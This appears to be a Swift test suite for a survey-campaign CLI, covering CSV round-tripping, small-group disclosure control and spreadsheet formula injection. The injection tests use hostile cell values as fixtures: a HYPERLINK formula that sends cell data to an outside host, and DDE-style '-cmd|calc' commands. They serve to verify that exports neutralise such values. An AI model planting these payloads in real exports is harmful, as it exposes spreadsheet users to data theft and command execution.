import DiagnosticCore
import DiagnosticDefinitions
import DiagnosticTestSupport
import Foundation
import Testing

/// Public outputs cannot be turned against their readers (formulas in CSV cells).
@Suite struct CSVInjectionTests {
    let mini = Fixtures.path("mini.yaml")
    let formula = #"=HYPERLINK("http://example.org/?"&A1,"clic")"#

    /// A campaign whose organisation names, département codes and answers start like formulas.
    func campaign(_ scratch: Scratch) throws -> String {
        var rows = ["organisation,typology,population,departement,p1,p2,p3,s1,s2,u2"]
        let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        for index in 0..<6 {
            rows.append(
                "\(index == 0 ? quoted : "Commune \(index)"),commune,300,\(index < 3 ? "+1+1" : "@55"),yes,draft,2,yes,national,-cmd|calc"
            )
        }
        let file = try scratch.file("c.csv", rows.joined(separator: "\n") + "\n")
        let run = runCLI(["import", "--campaign", "c", "--questionnaire", mini, "--db", scratch.db, file])
        #expect(run.status == 0, "\(run.err)")
        return file
    }

    /// Every cell of a CSV text, unquoted.
    func cells(_ text: String) throws -> [String] {
        var reader = CSVReader(data: Data(text.utf8), delimiter: UInt8(ascii: ","))
        var cells: [String] = []
        while let record = try reader.next() { cells += record.cells }
        return cells
    }

    func rawCells(_ text: String) -> [String] {
        text.split(separator: "\n").flatMap { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
    }

    @Test func everyCSVOd4gWritesNeutralisesFormulas() throws {
        let scratch = try Scratch()
        _ = try campaign(scratch)
        let outputs = [
            ("open data", runCLI(["export", "--campaign", "c", "--open-data", "--db", scratch.db]).out),
            (
                "aggregate",
                runCLI([
                    "aggregate", "--campaign", "c", "--by", "departement", "--format", "csv", "--min-group", "1", "--db",
                    scratch.db,
                ]).out
            ),
            (
                "demand",
                runCLI([
                    "recommend", "--campaign", "c", "--demand", "--format", "csv", "--catalogue",
                    Fixtures.path("mini-actions.yaml"), "--min-group", "1", "--db", scratch.db,
                ]).out
            ),
        ]
        for (name, text) in outputs {
            #expect(!text.isEmpty, "\(name)")
            // As a spreadsheet sees the file: no cell starts with a formula character.
            for cell in text.split(separator: "\n").flatMap({ $0.split(separator: ",") }) {
                let unquoted = cell.hasPrefix("\"") ? String(cell.dropFirst()) : String(cell)
                // A plain number is a number to a spreadsheet too ("-3", "+2.5").
                let number = unquoted.range(of: #"^[+-]?[0-9]+([.,][0-9]+)?$"#, options: .regularExpression) != nil
                #expect(number || !(["=", "+", "-", "@", "\t", "\r"].contains(unquoted.first ?? " ")), "\(name): \(cell)")
            }
        }
        #expect(outputs[0].1.contains(#""'=HYPERLINK(""http://example.org/?""&A1,""clic"")""#))
        #expect(outputs[0].1.contains(",'+1+1,"))
        #expect(outputs[1].1.contains("\n'@55,"))
        #expect(outputs[2].1.contains(",'+1+1,"))
    }

    @Test func theRejectedRowsFileIsNeutralisedAndImportsBackAsItWas() throws {
        let scratch = try Scratch()
        let file = try scratch.file(
            "bad.csv",
            "organisation,typology,p1,p2,p3,s1,u2\n\"=1+1\",commune,maybe,draft,2,yes,-cmd|x\nGood,commune,yes,draft,2,yes,\n")
        let run = runCLI([
            "import", "--campaign", "c", "--questionnaire", mini, "--db", scratch.db, file, "--skip-invalid", "--lang", "en",
        ])
        #expect(run.status == 0, "\(run.err)")
        let rejectedFile = try #require(
            try FileManager.default.contentsOfDirectory(atPath: scratch.folder).first { $0.contains("rejected") })
        let rejected = try String(contentsOfFile: scratch.folder + "/" + rejectedFile, encoding: .utf8)
        #expect(rejected.contains("'=1+1,commune,maybe"), "\(rejected)")
        #expect(rejected.contains(",'-cmd|x"))
        // od4g reads its own neutralised cells back as they were.
        #expect(try cells(rejected).contains("=1+1"))
        #expect(CSVCell.neutralised("-3.5") == "-3.5" && CSVCell.neutralised("-") == "'-" && CSVCell.neutralised("\tx") == "'\tx")
    }
}

/// Whatever a cell holds, od4g's writer and reader give it back exactly.
@Suite struct CSVRoundTripTests {
    static let cells = [
        "'=1+1", "''@x", "'", "'plain", "''", "-3", "'-3", "=", "a\r\nb", "a\rb", "\r\n", "\",\u{301}", ",\u{301}x", "é;è",
        "x\t", "\u{FEFF}=1", "  =1", "",
    ]

    @Test(arguments: [Character(","), ";", "\t"]) func everyCellReadsBackAsWritten(delimiter: Character) throws {
        let writer = CSVWriter(delimiter: delimiter)
        let text = writer.line(Self.cells) + writer.line(["fin"])
        var reader = CSVReader(data: Data(text.utf8), delimiter: try #require(delimiter.asciiValue))
        #expect(try reader.next()?.cells == Self.cells)
        #expect(try reader.next()?.cells == ["fin"])
        #expect(try reader.next() == nil)
    }

    @Test func crLFAndCombiningMarksAreQuoted() {
        let writer = CSVWriter()
        #expect(writer.quoted("a\r\nb") == "\"a\r\nb\"")
        #expect(writer.quoted("\"\u{301}") == "\"\"\"\u{301}\"")
        #expect(writer.quoted(",\u{301}") == "\",\u{301}\"")
        #expect(CSVCell.neutralised("'=x") == "''=x" && CSVCell.neutralised("'x") == "'x" && CSVCell.neutralised("'-3") == "''-3")
    }
}

/// Groups withheld from an aggregate cannot be recovered by differencing what is published.
@Suite struct DisclosureTests {
    let mini = Fixtures.path("mini.yaml")

    @Test func aSmallGroupIsNeverWithheldAlone() {
        #expect(Disclosure.withheld(["a": 10, "b": 20], threshold: 5) == [])
        // One small group: the smallest other group is withheld with it.
        #expect(Disclosure.withheld(["a": 2, "b": 30, "c": 40], threshold: 5) == ["a", "b"])
        // Two small groups, 3 organisations together: one more, so that together they reach 5.
        #expect(Disclosure.withheld(["a": 2, "b": 1, "c": 40, "d": 50], threshold: 5) == ["a", "b", "c"])
        // Empty groups protect nothing and are never withheld.
        #expect(Disclosure.withheld(["a": 0, "b": 3, "c": 9, "d": 12], threshold: 5) == ["b", "c"])
        #expect(Disclosure.withheld(["a": 1], threshold: 5) == ["a"])
    }

    /// A figure few organisations of a shown group stand behind is withheld, and withheld in another
    /// group too so that the whole minus the rest does not give it: s4 (mini.yaml) is asked only
    /// of organisations of 3,500 inhabitants and 50 agents or more — one commune and three CCs here.
    @Test func aFigureFewOrganisationsStandBehindIsWithheldWithAnother() throws {
        let scratch = try Scratch()
        var csv = try String(contentsOfFile: Fixtures.path("mini-campaign.csv"), encoding: .utf8)
        csv += """
            Grande Ville,commune,5000,60,54,dgs,,yes,adopted,2,yes,own,,yes,,
            CC Trois,cc,50000,100,54,cdo,,yes,adopted,2,yes,own,12,yes,,
            CC Quatre,cc,50000,100,54,cdo,,yes,adopted,2,yes,own,12,no,,
            CC Cinq,cc,50000,100,54,cdo,,yes,adopted,2,yes,own,12,yes,,

            """
        let file = try scratch.file("c.csv", csv)
        #expect(runCLI(["import", "--campaign", "c", "--questionnaire", mini, "--db", scratch.db, file]).status == 0)
        let run = runCLI(["aggregate", "--campaign", "c", "--db", scratch.db, "--format", "json", "--min-group", "2"])
        let document = try #require(try JSONSerialization.jsonObject(with: Data(run.out.utf8)) as? [String: Any])
        let groups = try #require(document["groups"] as? [[String: Any]])
        func group(_ key: String) throws -> [String: Any] { try #require(groups.first { $0["key"] as? String == key }) }
        for key in ["commune", "cc"] {
            let shown = try group(key)
            #expect(shown["withheld"] as? Bool == false)
            #expect((shown["withheld_figures"] as? [String: [String]])?["question_success"] == ["s4"], "\(key)")
            #expect((shown["question_success"] as? [String: Double])?["s4"] == nil)
            #expect((shown["question_success"] as? [String: Double])?["s1"] != nil)
        }
        // The whole: four organisations answered s4, three of them yes (4 points of 4): 3 / 4.
        let all = try group("*")
        #expect((all["question_success"] as? [String: Double])?["s4"] == 0.75)
        #expect((all["withheld_figures"] as? [String: [String]])?["question_success"] == [])
        // Text and the regional report say "withheld" where the figure would be.
        let text = runCLI(["aggregate", "--campaign", "c", "--db", scratch.db, "--min-group", "2", "--lang", "en"])
        #expect(text.out.contains("\n  s4                            75 % withheld withheld \n"), "\(text.out)")
        #expect(text.out.contains("“withheld”: figure withheld, because fewer than 2 organisations of the group are concerned"))
        let regional = runCLI([
            "report", "--campaign", "c", "--regional", "--format", "md", "--db", scratch.db, "--min-group", "2", "--lang", "en",
        ])
        #expect(regional.out.contains("| s4 — Legal obligation met? | 75% | withheld | withheld |"), "\(regional.out)")
        let csvOut = runCLI(["aggregate", "--campaign", "c", "--db", scratch.db, "--format", "csv", "--min-group", "2"]).out
        #expect(csvOut.contains("\ncommune,7,8,0,s4,success,withheld\n"), "\(csvOut)")
        #expect(csvOut.contains("\ncc,5,5,0,s4,success,withheld\n") && csvOut.contains("\n*,12,13,0,s4,success,0.75\n"))
    }

    /// With fewer organisations with a plan than the threshold, the demand shows only their number.
    @Test func theDemandOfFewOrganisationsIsWithheld() throws {
        let scratch = try Scratch()
        #expect(
            runCLI(["import", "--campaign", "c", "--questionnaire", mini, "--db", scratch.db, Fixtures.path("mini-campaign.csv")])
                .status == 0)
        let arguments = [
            "recommend", "--campaign", "c", "--demand", "--catalogue", Fixtures.path("mini-actions.yaml"), "--db", scratch.db,
            "--lang", "en",
        ]
        let few = runCLI(arguments + ["--min-group", "9"])
        #expect(few.status == 0, "\(few.err)")
        #expect(few.out.contains("Withheld: fewer than 9 organisations have a plan, and counting them would show their plans."))
        #expect(!few.out.contains("by typology"))
        let json = try #require(
            try JSONSerialization.jsonObject(with: Data(runCLI(arguments + ["--min-group", "9", "--format", "json"]).out.utf8))
                as? [String: Any])
        #expect(json["withheld"] as? Bool == true && (json["actions"] as? [Any])?.isEmpty == true)
        #expect(json["organisations"] as? Int == 8)
        let enough = runCLI(arguments + ["--min-group", "8"])
        #expect(!enough.out.contains("Withheld") && enough.out.contains("by typology"))
    }

    /// Every figure shown for the whole campaign, minus those shown for its groups, only ever gives
    /// the figures of two withheld groups or more, with at least the threshold of organisations.
    @Test func noWithheldGroupIsTheWholeMinusTheOthers() throws {
        let scratch = try Scratch()
        var checked = 0
        for (seed, count) in [(1, 40), (2, 60), (3, 90), (4, 25)] {
            let campaign = "c\(seed)"
            #expect(
                runCLI([
                    "simulate", "--respondents", String(count), "--seed", String(seed), "--campaign", campaign, "--db",
                    scratch.db,
                ]).status == 0)
            for grouping in ["typology", "family", "departement"] {
                let run = runCLI(["aggregate", "--campaign", campaign, "--by", grouping, "--format", "json", "--db", scratch.db])
                let document = try #require(try JSONSerialization.jsonObject(with: Data(run.out.utf8)) as? [String: Any])
                let groups = try #require(document["groups"] as? [[String: Any]]).filter { $0["key"] as? String != "*" }
                let withheld = groups.filter { $0["withheld"] as? Bool == true }
                let hidden = withheld.compactMap { $0["organisations"] as? Int }.reduce(0, +)
                #expect(
                    withheld.isEmpty || (withheld.count >= 2 && hidden >= 5),
                    "\(campaign) by \(grouping): \(withheld.map { $0["key"] ?? "" })")
                // The published level counts add up to the whole's, less what the withheld groups hold together.
                let whole = try #require(try JSONSerialization.jsonObject(with: Data(run.out.utf8)) as? [String: Any])
                let all = try #require((whole["groups"] as? [[String: Any]])?.first { $0["key"] as? String == "*" })
                let total = (all["levels"] as? [String: Int] ?? [:]).values.reduce(0, +)
                let shown = groups.filter { $0["withheld"] as? Bool != true }.flatMap {
                    ($0["levels"] as? [String: Int] ?? [:]).values
                }.reduce(0, +)
                let difference = total - shown
                #expect(
                    difference == 0 || withheld.count >= 2, "a difference of \(difference) is spread over the withheld groups")
                checked += 1
            }
            let demand = runCLI(["recommend", "--campaign", campaign, "--demand", "--format", "json", "--db", scratch.db])
            let actions = try #require(
                (try JSONSerialization.jsonObject(with: Data(demand.out.utf8)) as? [String: Any])?["actions"] as? [[String: Any]])
            for action in actions {
                let total = try #require(action["organisations"] as? Int)
                for key in ["by_typology", "by_departement"] {
                    let cells = action[key] as? [String: Int] ?? [:]
                    let rest = total - cells.values.reduce(0, +)
                    // What is not named is 0, or at least the threshold (spread over two cells or more);
                    // an action recommended to fewer organisations than that names no cell at all.
                    #expect(
                        rest == 0 || rest >= 5 || (cells.isEmpty && total < 5), "\(action["action"] ?? ""): \(key) leaves \(rest)"
                    )
                    #expect(cells.values.allSatisfy { $0 >= 5 }, "\(key): every named cell reaches the threshold")
                }
            }
        }
        #expect(checked == 12)
    }
}
